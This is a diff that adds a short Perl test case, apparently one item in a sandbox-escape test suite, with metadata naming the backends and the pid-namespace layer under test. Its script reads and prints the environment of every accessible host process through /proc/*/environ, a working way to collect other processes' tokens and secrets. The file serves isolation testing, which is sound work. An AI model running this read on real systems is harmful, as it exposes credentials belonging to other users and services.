@@ -1,0 +1,14 @@
+# SPDX-License-Identifier: Apache-2.0
+# attack: C40
+# title: read the environment of a process of the host
+# backends: docker, process
+# expect: completed exit
+# layers: pid namespace
+# evidence: token
+# control docker: processes
+# control process: none
+print "$ENV{TRIED}\n";
+for my $path (glob "/proc/[0-9]*/environ") {
+    next unless open(my $file, "<", $path);
+    print <$file>;
+}
